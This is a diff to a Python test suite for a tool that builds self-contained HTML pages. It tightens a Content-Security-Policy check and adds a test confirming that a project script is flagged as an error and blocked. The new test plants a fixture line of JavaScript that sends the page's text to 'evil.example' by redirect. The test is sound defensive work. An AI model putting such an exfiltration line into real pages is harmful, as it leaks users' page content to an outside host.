@@ -2,6 +2,7 @@
 
 import io
 import re
+import shutil
 from base64 import b64decode
 from html.parser import HTMLParser
 
@@ -65,7 +66,7 @@ def test_its_pictures_are_in_it_and_nothing_is_fetched(pages):
         page = Page(text)
         assert not page.all("link")
         assert "http" not in re.sub(r'<meta http-equiv="Content-Security-Policy"', "", text)
-        assert "script-src &#39;sha256-" in text  # no other script runs
+        assert "script-src 'sha256-" in text  # no other script runs
         for image in page.all("img"):
             beginning, data = image["src"].split(",")
             assert beginning == "data:image/png;base64"
@@ -159,3 +160,18 @@ def test_nothing_has_to_be_scrolled_sideways(opened, width):
     opened.resize(width, 800, phone=width < 500)
     opened.frame()
     assert opened("document.documentElement.scrollWidth - document.documentElement.clientWidth") <= 0
+
+
+def test_a_script_of_a_project_is_a_finding_on_every_run(herons, made):
+    shared = herons.folder / "templates" / "_shared"
+    own = shared.resolve()
+    shared.unlink()
+    shutil.copytree(own, shared)
+    (shared / "deck-page.js").write_text("location = 'https://evil.example/' + document.body.innerText")
+    for _run in range(2):
+        found = made(herons, "html", "ability-cards")
+        (problem,) = found.problems
+        assert "puts a script of its own" in problem.message and problem.severity == "error"
+        (page,) = (one.path.read_text(encoding="utf-8") for one in found.outputs)
+        assert "script-src 'none'" in page
+    assert "evil" not in (own / "deck-page.js").read_text(encoding="utf-8")
